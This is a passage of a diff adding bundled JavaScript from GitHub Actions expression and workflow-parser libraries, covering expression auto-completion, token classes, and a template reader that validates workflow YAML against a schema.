+    const lexResult = lexer.lex();
+    // Find interesting part of the tokenVector. For example, for an expression like `github.actor == env.actor.log|`, we are
+    // only interested in the `env.actor.log` part for auto-completion
+    const tokenInputVector = trimTokenVector(lexResult.tokens);
+    // Start by skipping the EOF token
+    let tokenIdx = tokenInputVector.length - 2;
+    if (tokenIdx >= 0) {
+        switch (tokenInputVector[tokenIdx].type) {
+            // If there is a (partial) identifier under the cursor, ignore that
+            case TokenType.IDENTIFIER:
+                tokenIdx--;
+                break;
+            case TokenType.STRING:
+                // TODO: Support string for `context.name['test|`
+                return [];
+        }
+    }
+    if (tokenIdx < 0) {
+        // Vector only contains the EOF token. Suggest functions and root context access
+        const result = contextKeys(context);
+        // Merge with functions
+        result.push(...functionItems(extensionFunctions, featureFlags));
+        return result;
+    }
+    // Determine path that led to the last token
+    // Use parser & evaluator to determine context to complete.
+    const pathTokenVector = tokenInputVector.slice(0, tokenIdx);
+    // Include the original EOF token to make the parser happy
+    pathTokenVector.push(tokenInputVector[tokenInputVector.length - 1]);
+    const p = new Parser(pathTokenVector, context.pairs().map(x => x.key), extensionFunctions);
+    const expr = p.parse();
+    const ev = new Evaluator(expr, context, functions);
+    const result = ev.evaluate();
+    return contextKeys(result);
+}
+function functionItems(extensionFunctions, featureFlags) {
+    const result = [];
+    const flags = featureFlags ?? new FeatureFlags();
+    for (const fdef of [...Object.values(wellKnownFunctions), ...extensionFunctions]) {
+        // Filter out case function if feature is disabled
+        if (fdef.name === "case" && !flags.isEnabled("allowCaseFunction")) {
+            continue;
+        }
+        result.push({
+            label: fdef.name,
+            description: fdef.description,
+            function: true
+        });
+    }
+    // Sort functions
+    result.sort((a, b) => a.label.localeCompare(b.label));
+    return result;
+}
+function contextKeys(context) {
+    if (isDictionary(context)) {
+        return (context
+            .pairs()
+            .map(x => completionItemFromContext(x))
+            // Sort contexts
+            .sort((a, b) => a.label.localeCompare(b.label)));
+    }
+    return [];
+}
+function completionItemFromContext(pair) {
+    const context = pair.key.toString();
+    const parenIndex = context.indexOf("(");
+    const isFunc = parenIndex >= 0 && context.indexOf(")") >= 0;
+    return {
+        label: isFunc ? context.substring(0, parenIndex) : context,
+        description: pair.description,
+        function: isFunc
+    };
+}
+function trimTokenVector(tokenVector) {
+    let tokenIdx = tokenVector.length;
+    let openParen = 0;
+    while (tokenIdx > 0) {
+        const token = tokenVector[tokenIdx - 1];
+        switch (token.type) {
+            case TokenType.LEFT_PAREN:
+                if (openParen == 0) {
+                    // Encountered an open parenthesis without a closing first, stop here
+                    break;
+                }
+                openParen--;
+                tokenIdx--;
+                continue;
+            case TokenType.RIGHT_PAREN:
+                openParen++;
+                tokenIdx--;
+                continue;
+            case TokenType.IDENTIFIER:
+            case TokenType.DOT:
+            case TokenType.EOF:
+            case TokenType.LEFT_BRACKET:
+            case TokenType.RIGHT_BRACKET:
+            case TokenType.STRING:
+                tokenIdx--;
+                continue;
+        }
+        break;
+    }
+    // Only keep the part of the token vector we're interested in
+    return tokenVector.slice(tokenIdx);
+}
+//# sourceMappingURL=completion.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/completion/descriptionDictionary.js
+
+
+function isDescriptionDictionary(x) {
+    return x.kind === Kind.Dictionary && x instanceof DescriptionDictionary;
+}
+class DescriptionDictionary extends Dictionary {
+    constructor(...pairs) {
+        super();
+        this.descriptions = new Map();
+        this.complete = true;
+        for (const p of pairs) {
+            this.add(p.key, p.value, p.description);
+        }
+    }
+    add(key, value, description) {
+        if (this.get(key) !== undefined) {
+            // Key already added, ignore
+            return;
+        }
+        super.add(key, value);
+        if (description) {
+            this.descriptions.set(key, description);
+        }
+    }
+    pairs() {
+        const pairs = super.pairs();
+        return pairs.map(p => ({ ...p, description: this.descriptions.get(p.key) }));
+    }
+    getDescription(key) {
+        return this.descriptions.get(key);
+    }
+}
+//# sourceMappingURL=descriptionDictionary.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/index.js
+
+
+
+
+
+
+
+
+
+
+//# sourceMappingURL=index.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/allowed-context.js
+
+function splitAllowedContext(allowedContext) {
+    const FUNCTION_REGEXP = /^([a-zA-Z0-9_]+)\(([0-9]+),([0-9]+|MAX)\)$/;
+    const namedContexts = [];
+    const functions = [];
+    if (allowedContext.length > 0) {
+        for (const contextItem of allowedContext) {
+            const match = contextItem.match(FUNCTION_REGEXP);
+            if (match) {
+                const functionName = match[1];
+                const minParameters = Number.parseInt(match[2]);
+                const maxParametersRaw = match[3];
+                const maxParameters = maxParametersRaw === MAX_CONSTANT ? Number.MAX_SAFE_INTEGER : Number.parseInt(maxParametersRaw);
+                functions.push({
+                    name: functionName,
+                    minArgs: minParameters,
+                    maxArgs: maxParameters
+                });
+            }
+            else {
+                namedContexts.push(contextItem);
+            }
+        }
+    }
+    return {
+        namedContexts: namedContexts,
+        functions: functions
+    };
+}
+//# sourceMappingURL=allowed-context.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/expression-token.js
+
+
+
+class expression_token_ExpressionToken extends ScalarToken {
+    constructor(type, file, range, directive, definitionInfo) {
+        super(type, file, range, definitionInfo);
+        this.directive = directive;
+    }
+    get isLiteral() {
+        return false;
+    }
+    get isExpression() {
+        return true;
+    }
+    static validateExpression(expression, allowedContext) {
+        const { namedContexts, functions } = splitAllowedContext(allowedContext);
+        // Parse
+        const lexer = new lexer_Lexer(expression);
+        const result = lexer.lex();
+        const p = new parser_Parser(result.tokens, namedContexts, functions);
+        p.parse();
+    }
+}
+//# sourceMappingURL=expression-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/basic-expression-token.js
+
+
+
+
+class BasicExpressionToken extends expression_token_ExpressionToken {
+    /**
+     * @param file The file ID where this token originated
+     * @param range The range of the entire expression including `${{` and `}}`
+     * @param expression The expression string without `${{` and `}}` markers
+     * @param definitionInfo Schema definition info for this token
+     * @param originalExpressions If transformed from individual expressions (e.g., format()), these are the originals
+     * @param source The original source string from the YAML
+     * @param expressionRange The range of just the expression, excluding `${{` and `}}`
+     * @param blockScalarHeader The block scalar header (e.g., "|", "|-") if parsed from a YAML block scalar
+     */
+    constructor(file, range, expression, definitionInfo, originalExpressions, source, expressionRange, blockScalarHeader) {
+        super(types_TokenType.BasicExpression, file, range, undefined, definitionInfo);
+        this.expr = expression;
+        this.source = source;
+        this.originalExpressions = originalExpressions;
+        this.expressionRange = expressionRange;
+        this.blockScalarHeader = blockScalarHeader;
+    }
+    get expression() {
+        return this.expr;
+    }
+    clone(omitSource) {
+        return omitSource
+            ? new BasicExpressionToken(undefined, undefined, this.expr, this.definitionInfo, this.originalExpressions, this.source, this.expressionRange, this.blockScalarHeader)
+            : new BasicExpressionToken(this.file, this.range, this.expr, this.definitionInfo, this.originalExpressions, this.source, this.expressionRange, this.blockScalarHeader);
+    }
+    toString() {
+        return `${OPEN_EXPRESSION} ${this.expr} ${CLOSE_EXPRESSION}`;
+    }
+    toDisplayString() {
+        // TODO: Implement expression display string to match `BasicExpressionToken#ToDisplayString()` in the C# parser
+        return ScalarToken.trimDisplayString(this.toString());
+    }
+    toJSON() {
+        return {
+            type: types_TokenType.BasicExpression,
+            expr: this.expr
+        };
+    }
+}
+//# sourceMappingURL=basic-expression-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/insert-expression-token.js
+
+
+
+class InsertExpressionToken extends expression_token_ExpressionToken {
+    constructor(file, range, definitionInfo) {
+        super(types_TokenType.InsertExpression, file, range, INSERT_DIRECTIVE, definitionInfo);
+    }
+    clone(omitSource) {
+        return omitSource
+            ? new InsertExpressionToken(undefined, undefined, this.definitionInfo)
+            : new InsertExpressionToken(this.file, this.range, this.definitionInfo);
+    }
+    toString() {
+        return `${OPEN_EXPRESSION} ${INSERT_DIRECTIVE} ${CLOSE_EXPRESSION}`;
+    }
+    toDisplayString() {
+        return ScalarToken.trimDisplayString(this.toString());
+    }
+    toJSON() {
+        return {
+            type: types_TokenType.InsertExpression,
+            expr: "insert"
+        };
+    }
+}
+//# sourceMappingURL=insert-expression-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/index.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+//# sourceMappingURL=index.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/type-guards.js
+
+
+
+function isLiteral(t) {
+    return t.isLiteral;
+}
+function isScalar(t) {
+    return t.isScalar;
+}
+function isString(t) {
+    return isLiteral(t) && t.templateTokenType === types_TokenType.String;
+}
+function isNumber(t) {
+    return isLiteral(t) && t.templateTokenType === TokenType.Number;
+}
+function isBoolean(t) {
+    return isLiteral(t) && t.templateTokenType === TokenType.Boolean;
+}
+function isBasicExpression(t) {
+    return isScalar(t) && t.templateTokenType === TokenType.BasicExpression;
+}
+function isSequence(t) {
+    return t instanceof SequenceToken;
+}
+function isMapping(t) {
+    return t instanceof MappingToken;
+}
+//# sourceMappingURL=type-guards.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/template-reader.js
+// template-reader *just* does schema validation
+/* eslint-disable @typescript-eslint/no-non-null-assertion */
+
+
+
+
+
+
+const WHITESPACE_PATTERN = /\s/;
+const backgroundStepProperties = new Set(["background", "wait", "wait-all", "cancel"]);
+const backgroundStepOnlyProperties = new Set(["wait", "wait-all", "cancel"]);
+function readTemplate(context, type, objectReader, fileId) {
+    const reader = new TemplateReader(context, objectReader, fileId);
+    let value;
+    try {
+        objectReader.validateStart();
+        const definition = new DefinitionInfo(context.schema, type);
+        value = reader.readValue(definition);
+        objectReader.validateEnd();
+    }
+    catch (err) {
+        context.error(fileId, err);
+    }
+    return value;
+}
+class TemplateReader {
+    constructor(context, objectReader, fileId) {
+        this._context = context;
+        this._schema = context.schema;
+        this._objectReader = objectReader;
+        this._fileId = fileId;
+    }
+    readValue(definition) {
+        // Scalar
+        const literal = this._objectReader.allowLiteral();
+        if (literal) {
+            let scalar = this.parseScalar(literal, definition);
+            scalar = this.validate(scalar, definition);
+            return scalar;
+        }
+        // Sequence
+        const sequence = this._objectReader.allowSequenceStart();
+        if (sequence) {
+            const sequenceDefinition = definition.getDefinitionsOfType(DefinitionType.Sequence)[0];
+            // Legal
+            if (sequenceDefinition) {
+                const itemDefinition = new DefinitionInfo(definition, sequenceDefinition.itemType);
+                // Add each item
+                while (!this._objectReader.allowSequenceEnd()) {
+                    const item = this.readValue(itemDefinition);
+                    sequence.add(item);
+                }
+            }
+            // Illegal
+            else {
+                // Error
+                this._context.error(sequence, "A sequence was not expected");
+                // Skip each item
+                while (!this._objectReader.allowSequenceEnd()) {
+                    this.skipValue();
+                }
+            }
+            sequence.definitionInfo = definition;
+            return sequence;
+        }
+        // Mapping
+        const mapping = this._objectReader.allowMappingStart();
+        if (mapping) {
+            const mappingDefinitions = definition.getDefinitionsOfType(DefinitionType.Mapping);
+            // Legal
+            if (mappingDefinitions.length > 0) {
+                if (mappingDefinitions.length > 1 ||
+                    Object.keys(mappingDefinitions[0].properties).length > 0 ||
+                    !mappingDefinitions[0].looseKeyType) {
+                    this.handleMappingWithWellKnownProperties(definition, mappingDefinitions, mapping);
+                }
+                else {
+                    const keyDefinition = new DefinitionInfo(definition, mappingDefinitions[0].looseKeyType);
+                    const valueDefinition = new DefinitionInfo(definition, mappingDefinitions[0].looseValueType);
+                    this.handleMappingWithAllLooseProperties(definition, keyDefinition, valueDefinition, mappingDefinitions[0], mapping);
+                }
+            }
+            // Illegal
+            else {
+                this._context.error(mapping, "A mapping was not expected");
+                while (!this._objectReader.allowMappingEnd()) {
+                    this.skipValue();
+                    this.skipValue();
+                }
+            }
+            // handleMappingWithWellKnownProperties will only set a definition
+            // if it can identify a single matching definition
+            if (!mapping.definitionInfo) {
+                mapping.definitionInfo = definition;
+            }
+            return mapping;
+        }
+        throw new Error("Expected a scalar value, a sequence, or a mapping");
+    }
+    handleMappingWithWellKnownProperties(definition, mappingDefinitions, mapping) {
+        // Check if loose properties are allowed
+        let looseKeyType;
+        let looseValueType;
+        let looseKeyDefinition;
+        let looseValueDefinition;
+        if (mappingDefinitions[0].looseKeyType) {
+            looseKeyType = mappingDefinitions[0].looseKeyType;
+            looseValueType = mappingDefinitions[0].looseValueType;
+        }
+        const upperKeys = {};
+        let hasExpressionKey = false;
+        let rawLiteral;
+        while ((rawLiteral = this._objectReader.allowLiteral())) {
+            const nextKeyScalar = this.parseScalar(rawLiteral, definition);
+            // Expression
+            if (nextKeyScalar.isExpression) {
+                hasExpressionKey = true;
+                // Legal
+                if (definition.allowedContext.length > 0) {
+                    const anyDefinition = new DefinitionInfo(definition, ANY);
+                    mapping.add(nextKeyScalar, this.readValue(anyDefinition));
+                }
+                // Illegal
+                else {
+                    this._context.error(nextKeyScalar, "A template expression is not allowed in this context");
+                    this.skipValue();
+                }
+                continue;
+            }
+            // Convert to StringToken if required
+            const nextKey = nextKeyScalar.templateTokenType === types_TokenType.String
+                ? nextKeyScalar
+                : new StringToken(nextKeyScalar.file, nextKeyScalar.range, nextKeyScalar.toString(), nextKeyScalar.definitionInfo);
+            // Duplicate
+            if (nextKey.value) {
+                const upperKey = nextKey.value.toUpperCase();
+                if (upperKeys[upperKey]) {
+                    this._context.error(nextKey, `'${nextKey.value}' is already defined`);
+                    this.skipValue();
+                    continue;
+                }
+                upperKeys[upperKey] = true;
+            }
+            // Well known
+            const nextPropertyDef = this._schema.matchPropertyAndFilter(mappingDefinitions, nextKey.value);
+            if (nextPropertyDef) {
+                if (!this.backgroundStepsEnabled() && backgroundStepProperties.has(nextKey.value)) {
+                    this._context.error(nextKey, `Unexpected value '${nextKey.value}'`);
+                    this.skipValue();
+                    continue;
+                }
+                const nextDefinition = new DefinitionInfo(definition, nextPropertyDef.type);
+                // Store the definition on the key, the value may have its own definition
+                nextKey.definitionInfo = nextDefinition;
+                // If the property has a description, it's a parameter that uses a shared type
+                // and we need to make sure its description is set if there is one
+                if (nextPropertyDef.description) {
+                    nextKey.description = nextPropertyDef.description;
+                }
+                const nextValue = this.readValue(nextDefinition);
+                mapping.add(nextKey, nextValue);
+                continue;
+            }
+            // Loose
+            if (looseKeyType) {
+                if (!looseKeyDefinition) {
+                    looseKeyDefinition = new DefinitionInfo(definition, looseKeyType);
+                    looseValueDefinition = new DefinitionInfo(definition, looseValueType);
+                }
+                this.validate(nextKey, looseKeyDefinition);
+                // Store the definition on the key, the value may have its own definition
+                const nextDefinition = new DefinitionInfo(definition, mappingDefinitions[0].looseValueType);
+                nextKey.definitionInfo = nextDefinition;
+                const nextValue = this.readValue(looseValueDefinition);
+                mapping.add(nextKey, nextValue);
+                continue;
+            }
+            // Error
+            this._context.error(nextKey, `Unexpected value '${nextKey.value}'`);
+            this.skipValue();
+        }
+        // If we matched a single definition from multiple,
+        // update the token's definition to enable more specific editor
+        // completion and validation
+        if (mappingDefinitions.length === 1) {
+            mapping.definitionInfo = new DefinitionInfo(definition, mappingDefinitions[0]);
+        }
+        // Unable to filter to one definition
+        if (mappingDefinitions.length > 1) {
+            const hitCount = {};
+            for (const mappingDefinition of mappingDefinitions) {
+                for (const key of Object.keys(mappingDefinition.properties)) {
+                    hitCount[key] = (hitCount[key] ?? 0) + 1;
+                }
+            }
+            const nonDuplicates = [];
+            for (const key of Object.keys(hitCount)) {
+                if (hitCount[key] === 1) {
+                    nonDuplicates.push(key);
+                }
+            }
+            const properties = this.backgroundStepsEnabled()
+                ? nonDuplicates
+                : nonDuplicates.filter(property => !backgroundStepOnlyProperties.has(property));
+            this._context.error(mapping, `There's not enough info to determine what you meant. Add one of these properties: ${properties
+                .sort()
+                .join(", ")}`);
+        }
+        // Check required properties
+        else if (mappingDefinitions.length === 1 && !hasExpressionKey) {
+            for (const propertyName of Object.keys(mappingDefinitions[0].properties)) {
+                const propertyDef = mappingDefinitions[0].properties[propertyName];
+                if (propertyDef.required && !upperKeys[propertyName.toUpperCase()]) {
+                    this._context.error(mapping, `Required property is missing: ${propertyName}`);
+                }
+            }
+        }
+        this.expectMappingEnd();
+    }
+    handleMappingWithAllLooseProperties(definition, keyDefinition, valueDefinition, mappingDefinition, mapping) {
+        let nextValue;
+        const upperKeys = {};
+        let rawLiteral;
+        while ((rawLiteral = this._objectReader.allowLiteral())) {
+            const nextKeyScalar = this.parseScalar(rawLiteral, definition);
+            nextKeyScalar.definitionInfo = keyDefinition;
+            // Expression
+            if (nextKeyScalar.isExpression) {
+                // Legal
+                if (definition.allowedContext.length > 0) {
+                    nextValue = this.readValue(valueDefinition);
+                    mapping.add(nextKeyScalar, nextValue);
+                }
+                // Illegal
+                else {
+                    this._context.error(nextKeyScalar, "A template expression is not allowed in this context");
+                    this.skipValue();
+                }
+                continue;
+            }
+            // Convert to StringToken if required
+            const nextKey = nextKeyScalar.templateTokenType === types_TokenType.String
+                ? nextKeyScalar
+                : new StringToken(nextKeyScalar.file, nextKeyScalar.range, nextKeyScalar.toString(), nextKeyScalar.definitionInfo);
+            // Duplicate
+            if (nextKey.value) {
+                const upperKey = nextKey.value.toUpperCase();
+                if (upperKeys[upperKey]) {
+                    this._context.error(nextKey, `'${nextKey.value}' is already defined`);
+                    this.skipValue();
+                    continue;
+                }
+                upperKeys[upperKey] = true;
+            }
+            // Validate
+            this.validate(nextKey, keyDefinition);
+            // Store the definition on the key, the value may have its own definition
+            const nextDefinition = new DefinitionInfo(definition, mappingDefinition.looseValueType);
+            nextKey.definitionInfo = nextDefinition;
+            // Add the pair
+            nextValue = this.readValue(valueDefinition);
+            mapping.add(nextKey, nextValue);
+        }
+        this.expectMappingEnd();
+    }
+    expectMappingEnd() {
+        if (!this._objectReader.allowMappingEnd()) {
+            throw new Error("Expected mapping end"); // Should never happen
+        }
+    }
+    skipValue() {
+        // Scalar
+        if (this._objectReader.allowLiteral()) {
+            // Intentionally empty
+        }
+        // Sequence
+        else if (this._objectReader.allowSequenceStart()) {
+            while (!this._objectReader.allowSequenceEnd()) {
+                this.skipValue();
+            }
+        }
+        // Mapping
+        else if (this._objectReader.allowMappingStart()) {
+            while (!this._objectReader.allowMappingEnd()) {
+                this.skipValue();
+                this.skipValue();
+            }
+        }
+        // Unexpected
+        else {
+            throw new Error("Expected a scalar value, a sequence, or a mapping");
+        }
+    }
+    validate(scalar, definition) {
+        switch (scalar.templateTokenType) {
+            case types_TokenType.Null:
+            case types_TokenType.Boolean:
+            case types_TokenType.Number:
+            case types_TokenType.String: {
+                const literal = scalar;
+                // Legal
+                const scalarDefinitions = definition.getScalarDefinitions();
+                let relevantDefinition;
+                if ((relevantDefinition = scalarDefinitions.find(x => x.isMatch(literal)))) {
+                    scalar.definitionInfo = new DefinitionInfo(definition, relevantDefinition);
+                    return scalar;
+                }
+                // Not a string, convert
+                if (literal.templateTokenType !== types_TokenType.String) {
+                    const stringLiteral = new StringToken(literal.file, literal.range, literal.toString(), literal.definitionInfo);
+                    // Legal
+                    if ((relevantDefinition = scalarDefinitions.find(x => x.isMatch(stringLiteral)))) {
+                        stringLiteral.definitionInfo = new DefinitionInfo(definition, relevantDefinition);
+                        return stringLiteral;
+                    }
+                }
+                // Illegal
+                this._context.error(literal, `Unexpected value '${literal.toString()}'`);
+                return scalar;
+            }
+            case types_TokenType.BasicExpression:
+                // Illegal
+                if (definition.allowedContext.length === 0) {
+                    this._context.error(scalar, "A template expression is not allowed in this context");
+                }
+                return scalar;
+            default:
+                this._context.error(scalar, `Unexpected value '${scalar.toString()}'`);
+                return scalar;
+        }
+    }
+    parseScalar(token, definitionInfo) {
+        // Not a string
+        if (!isString(token) || !token.value) {
+            return token;
+        }
+        const allowedContext = definitionInfo.allowedContext;
+        const isSingleLine = token.range === undefined || token.range.start.line === token.range.end.line;
+        // For single-line strings, use token.value (without YAML quotes) for expression detection,
+        // because token.source includes quote characters that would be incorrectly detected as literal text.
+        // For multi-line block scalars, use token.source directly because it makes position calculation easier
+        // (no quote characters to handle, and token.source preserves the original line/column structure in YAML).
+        const raw = isSingleLine ? token.value : token.source ?? token.value;
+        let startExpression = raw.indexOf(OPEN_EXPRESSION);
+        if (startExpression < 0) {
+            // Doesn't contain "{{"
+            return token;
+        }
+        // Break the value into segments of LiteralToken and ExpressionToken
+        let encounteredError = false;
+        const segments = [];
+        let i = 0;
+        while (i < raw.length) {
+            // An expression starts here
+            if (i === startExpression) {
+                // Find the end of the expression - i.e. "}}"
+                startExpression = i;
+                let endExpression = -1;
+                let inString = false;
+                for (i += OPEN_EXPRESSION.length; i < raw.length; i++) {
+                    if (raw[i] === "'") {
+                        inString = !inString; // Note, this handles escaped single quotes gracefully. E.x. 'foo''bar'
+                    }
+                    else if (!inString && raw[i] === "}" && raw[i - 1] === "}") {
+                        endExpression = i;
+                        i++;
+                        break;
+                    }
+                }
+                // Check if not closed
+                if (endExpression < startExpression) {
+                    this._context.error(token, "The expression is not closed. An unescaped ${{ sequence was found, but the closing }} sequence was not found.");
+                    return token;
+                }
+                // Parse the expression
+                const rawExpression = raw.substr(startExpression + OPEN_EXPRESSION.length, endExpression - startExpression + 1 - OPEN_EXPRESSION.length - CLOSE_EXPRESSION.length);
+                let tr = token.range;
+                if (isSingleLine) {
+                    // Single-line: Adjust the range to only cover the sub-expression.
+                    // Calculate offset to account for YAML quote characters.
+                    // For example, `"${{ expr }}"` has source with quotes, value without.
+                    const offset = (token.source ?? raw).indexOf(OPEN_EXPRESSION) - raw.indexOf(OPEN_EXPRESSION);
+                    tr = {
+                        start: { line: tr.start.line, column: tr.start.column + startExpression + offset },
+                        end: { line: tr.end.line, column: tr.start.column + endExpression + 1 + offset }
+                    };
+                }
+                else {
+                    // Multi-line: Adjust the range to only cover the expression
+                    const startRaw = raw.substring(0, startExpression);
+                    const adjustedStartLine = startRaw.split("\n").length;
+                    const beginningOfLine = startRaw.lastIndexOf("\n");
+                    const adjustedStart = startExpression - beginningOfLine;
+                    const adjustedEnd = endExpression - beginningOfLine + 1;
+                    tr = {
+                        start: { line: tr.start.line + adjustedStartLine, column: adjustedStart },
+                        end: { line: tr.start.line + adjustedStartLine, column: adjustedEnd }
+                    };
+                }
+                const expression = this.parseIntoExpressionToken(tr, rawExpression, allowedContext, token, definitionInfo);
+                if (!expression) {
+                    // Record that we've hit an error but continue to validate any other expressions
+                    // that might be in the string
+                    encounteredError = true;
+                }
+                else {
+                    // Check if a directive was used when not allowed
+                    if (expression.directive && (startExpression !== 0 || i < raw.length)) {
+                        this._context.error(token, `The directive '${expression.directive}' is not allowed in this context. Directives are not supported for expressions that are embedded within a string. Directives are only supported when the entire value is an expression.`);
+                        return token;
+                    }
+                    // Add the segment
+                    segments.push(expression);
+                }
+                // Look for the next expression
+                startExpression = raw.indexOf(OPEN_EXPRESSION, i);
+            }
+            // The next expression is further ahead
+            else if (i < startExpression) {
+                // Append the segment
+                this.addString(segments, token.range, raw.substr(i, startExpression - i), token.definitionInfo);
+                // Adjust the position
+                i = startExpression;
+            }
+            // No remaining expressions
+            else {
+                this.addString(segments, token.range, raw.substr(i), token.definitionInfo);
+                break;
+            }
+        }
+        // If we've hit any error during parsing, return the original token
+        if (encounteredError) {
+            return token;
+        }
+        // Check if can convert to a literal
+        // For example, the escaped expression: ${{ '{{ this is a literal }}' }}
+        if (segments.length === 1 && segments[0].templateTokenType === types_TokenType.BasicExpression) {
+            const basicExpression = segments[0];
+            const str = this.getExpressionString(basicExpression.expression);
+            if (str !== undefined) {
+                return new StringToken(this._fileId, token.range, str, token.definitionInfo);
+            }
+        }
+        // Check if only one segment
+        if (segments.length === 1) {
+            return segments[0];
+        }
+        // Build the new expression, using the format function
+        const format = [];
+        const args = [];
+        const expressionTokens = [];
+        let argIndex = 0;
+        for (const segment of segments) {
+            if (isString(segment)) {
+                const text = segment.value
+                    .replace(/'/g, "''") // Escape quotes
+                    .replace(/\{/g, "{{") // Escape braces
+                    .replace(/\}/g, "}}");
+                format.push(text);
+            }
+            else {
+                format.push(`{${argIndex}}`); // Append format arg
+                argIndex++;
+                const expression = segment;
+                args.push(", ");
+                args.push(expression.expression);
+                expressionTokens.push(expression);
+            }
+        }
+        return new BasicExpressionToken(this._fileId, token.range, `format('${format.join("")}'${args.join("")})`, definitionInfo, expressionTokens, raw, undefined, token.blockScalarHeader);
+    }
+    parseIntoExpressionToken(tr, rawExpression, allowedContext, token, definitionInfo) {
+        const parseExpressionResult = this.parseExpression(tr, token, rawExpression, allowedContext, definitionInfo);
+        // Check for error
+        if (parseExpressionResult.error) {
+            this._context.error(token, parseExpressionResult.error, tr);
+            return undefined;
+        }
+        return parseExpressionResult.expression;
+    }
+    parseExpression(range, token, value, allowedContext, definitionInfo) {
+        const trimmed = value.trim();
+        // Check if the value is empty
+        if (!trimmed) {
+            return {
+                error: new Error("An expression was expected")
+            };
+        }
+        // Try to find a matching directive
+        const matchDirectiveResult = this.matchDirective(trimmed, INSERT_DIRECTIVE, 0);
+        if (matchDirectiveResult.isMatch) {
+            return {
+                expression: new InsertExpressionToken(this._fileId, range, definitionInfo)
+            };
+        }
+        else if (matchDirectiveResult.error) {
+            return {
+                error: matchDirectiveResult.error
+            };
+        }
+        // Check if valid expression
+        try {
+            expression_token_ExpressionToken.validateExpression(trimmed, allowedContext);
+        }
+        catch (err) {
+            return {
+                error: err
+            };
+        }
+        const startTrim = value.length - value.trimStart().length;
+        const endTrim = value.length - value.trimEnd().length;
+        const expressionRange = {
+            start: {
+                ...range.start,
+                column: range.start.column + OPEN_EXPRESSION.length + startTrim
+            },
+            end: {
+                ...range.end,
+                column: range.end.column - CLOSE_EXPRESSION.length - endTrim
+            }
+        };
+        // Return the expression
+        return {
+            expression: new BasicExpressionToken(this._fileId, range, trimmed, definitionInfo, undefined, token.source, expressionRange, token.blockScalarHeader),
+            error: undefined
+        };
+    }
+    addString(segments, range, value, definition) {
+        // If the last segment was a LiteralToken, then append to the last segment
+        if (segments.length > 0 && segments[segments.length - 1].templateTokenType === types_TokenType.String) {
+            const lastSegment = segments[segments.length - 1];
+            segments[segments.length - 1] = new StringToken(this._fileId, range, `${lastSegment.value}${value}`, definition);
+        }
+        // Otherwise add a new LiteralToken
+        else {
+            segments.push(new StringToken(this._fileId, range, value, definition));
+        }
+    }
+    matchDirective(trimmed, directive, expectedParameters) {
+        const parameters = [];
+        if (trimmed.startsWith(directive) &&
+            (trimmed.length === directive.length || WHITESPACE_PATTERN.test(trimmed[directive.length]))) {
+            let startIndex = directive.length;
+            let inString = false;
+            let parens = 0;
+            for (let i = startIndex; i < trimmed.length; i++) {
+                const c = trimmed[i];
+                if (WHITESPACE_PATTERN.test(c) && !inString && parens == 0) {
+                    if (startIndex < 1) {
+                        parameters.push(trimmed.substr(startIndex, i - startIndex));
+                    }
+                    startIndex = i + 1;
+                }
+                else if (c === "'") {
+                    inString = !inString;
+                }
+                else if (c === "(" && !inString) {
+                    parens++;
+                }
+                else if (c === ")" && !inString) {
+                    parens--;
+                }
+            }
+            if (startIndex < trimmed.length) {
+                parameters.push(trimmed.substr(startIndex));
+            }
+            if (expectedParameters != parameters.length) {
+                return {
+                    isMatch: false,
+                    parameters: [],
+                    error: new Error(`Exactly ${expectedParameters} parameter(s) were expected following the directive '${directive}'. Actual parameter count: ${parameters.length}`)
+                };
+            }
+            return {
+                isMatch: true,
+                parameters: parameters
+            };
+        }
+        return {
+            isMatch: false,
+            parameters: parameters
+        };
+    }
+    getExpressionString(trimmed) {
+        const result = [];
+        let inString = false;
+        for (let i = 0; i < trimmed.length; i++) {
+            const c = trimmed[i];
+            if (c === "'") {
+                inString = !inString;
+                if (inString && i !== 0) {
+                    result.push(c);
+                }
+            }
+            else if (!inString) {
+                return undefined;
+            }
+            else {
+                result.push(c);
+            }
+        }
+        return result.join("");
+    }
+    backgroundStepsEnabled() {
+        return this._context.state.featureFlags?.isEnabled("allowBackgroundSteps") ?? false;
+    }
+}
+//# sourceMappingURL=template-reader.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/workflows/workflow-constants.js
+const WORKFLOW_ROOT = "workflow-root-strict";
+//# sourceMappingURL=workflow-constants.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/parse-event.js
+class ParseEvent {
+    constructor(type, token) {
+        this.type = type;
+        this.token = token;
+    }
+}
+var EventType;
+(function (EventType) {
+    EventType[EventType["Literal"] = 0] = "Literal";
+    EventType[EventType["SequenceStart"] = 1] = "SequenceStart";
+    EventType[EventType["SequenceEnd"] = 2] = "SequenceEnd";
+    EventType[EventType["MappingStart"] = 3] = "MappingStart";
+    EventType[EventType["MappingEnd"] = 4] = "MappingEnd";
+    EventType[EventType["DocumentStart"] = 5] = "DocumentStart";
+    EventType[EventType["DocumentEnd"] = 6] = "DocumentEnd";
+})(EventType || (EventType = {}));
+//# sourceMappingURL=parse-event.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/json-object-reader.js
+
+
+class JSONObjectReader {
+    constructor(fileId, input) {
+        this._fileId = fileId;
+        const value = JSON.parse(input);
+        this._generator = this.getParseEvents(value, true);
+        this._current = this._generator.next();
+    }
+    allowLiteral() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.Literal) {
+                this._current = this._generator.next();
+                return parseEvent.token;
+            }
+        }
+        return undefined;
+    }
+    allowSequenceStart() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.SequenceStart) {
+                this._current = this._generator.next();
+                return parseEvent.token;
+            }
+        }
+        return undefined;
+    }
+    allowSequenceEnd() {
